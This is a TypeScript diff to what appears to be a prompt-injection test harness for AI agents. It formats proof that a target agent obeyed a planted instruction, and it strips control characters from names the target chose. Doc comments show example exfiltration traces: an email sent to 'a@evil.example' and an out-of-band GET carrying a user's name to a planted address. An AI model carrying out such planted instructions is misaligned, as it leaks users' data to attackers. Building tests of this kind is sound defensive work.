@@ -20,6 +20,17 @@ export function provenByAction(matched: Pick<ProofMatch, 'kind'> | null | undefi
 export const MAX_ARGUMENT_CHARS = 300;
 const MAX_VALUE_CHARS = 120;
 
+/**
+ * A name the target chose (a tool's, a request's path), safe on one line of any view: control
+ * characters (line breaks, terminal escapes) become spaces.
+ */
+export function plain(text: string): string {
+  return text.replace(/\p{Cc}/gu, ' ');
+}
+
+/** a key as written when it is a plain identifier, else as JSON (quoted, escaped) */
+const keyText = (k: string) => (/^[\w.-]+$/.test(k) ? k : JSON.stringify(k));
+
 /** text shortened to `max` characters, with an ellipsis when it was cut */
 export function bounded(text: string, max: number): string {
   return text.length <= max ? text : `${text.slice(0, Math.max(0, max - 1)).trimEnd()}…`;
@@ -33,18 +44,18 @@ export function bounded(text: string, max: number): string {
 export function argumentsText(args: ToolCall['arguments'] | null | undefined, max = MAX_ARGUMENT_CHARS): string {
   if (args === undefined || args === null) return '';
   if (typeof args === 'string') return bounded(JSON.stringify(args), max);
-  const pairs = Object.entries(args).map(([k, v]) => `${k}=${bounded(JSON.stringify(v) ?? 'null', MAX_VALUE_CHARS)}`);
+  const pairs = Object.entries(args).map(([k, v]) => `${keyText(k)}=${bounded(JSON.stringify(v) ?? 'null', MAX_VALUE_CHARS)}`);
   return bounded(pairs.join(', '), max);
 }
 
 /** a call as a reader scans it: `send_email(to="a@evil.example", subject="Q3")` */
 export function toolCallText(name: string, args: ToolCall['arguments'] | null | undefined, max = MAX_ARGUMENT_CHARS): string {
-  return `${name}(${argumentsText(args, max)})`;
+  return `${plain(name)}(${argumentsText(args, max)})`;
 }
 
 /** the request that reached the planted address: `GET /oob/…/page?d=Jane` */
 export function outOfBandRequest(m: Pick<ProofMatch, 'method' | 'path' | 'query'>): string {
-  return bounded(`${m.method ?? 'GET'} ${m.path || '/'}${m.query ? `?${m.query}` : ''}`, MAX_ARGUMENT_CHARS);
+  return bounded(plain(`${m.method ?? 'GET'} ${m.path || '/'}${m.query ? `?${m.query}` : ''}`), MAX_ARGUMENT_CHARS);
 }
 
 /** What a proof matched, in words: the label of a told value, how often a value recurred, the call the agent made, the request that came back. */
@@ -62,10 +73,10 @@ export function proofShows(m: ProofMatch): string {
       return 'what the target made up';
     case 'tool_call': {
       const args = argumentsText(m.arguments);
-      return `the agent called ${m.tool ?? 'a tool'}${args ? ` with ${args}` : ' with no arguments'}`;
+      return `the agent called ${plain(m.tool ?? 'a tool')}${args ? ` with ${args}` : ' with no arguments'}`;
     }
     case 'out_of_band':
-      return `a request reached the planted address: ${outOfBandRequest(m)}${m.at ? ` at ${m.at}` : ''}`;
+      return `a request reached the planted address: ${outOfBandRequest(m)}${m.at ? ` at ${plain(m.at)}` : ''}`;
     default:
       return 'the instruction it obeyed';
   }
